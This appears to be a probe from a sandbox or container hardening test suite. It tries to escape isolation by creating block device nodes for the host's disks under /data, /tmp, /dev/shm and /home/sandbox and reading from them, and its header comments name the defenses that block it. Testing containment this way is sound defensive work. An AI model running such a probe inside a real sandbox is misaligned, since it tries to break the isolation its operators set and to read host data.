# tries: makes a node of the host's disk, and reads the disk
# stopped by: user_namespace, mount_flags
# like: CVE-2026-96812

import stat
numbers = {(8, 0), (254, 0), (253, 0), (259, 0), (252, 0), (7, 0)}
for line in open("/proc/partitions").read().splitlines()[2:]:
    major, minor = line.split()[:2]
    numbers.add((int(major), int(minor)))
for place in ("/data", "/tmp", "/dev/shm", "/home/sandbox"):
    for major, minor in numbers:
        path = f"{place}/disk-{major}-{minor}"
        try:
            os.mknod(path, stat.S_IFBLK | 0o666, os.makedev(major, minor))
            got("read a disk", path, read(path, 16))
        except OSError:
            pass
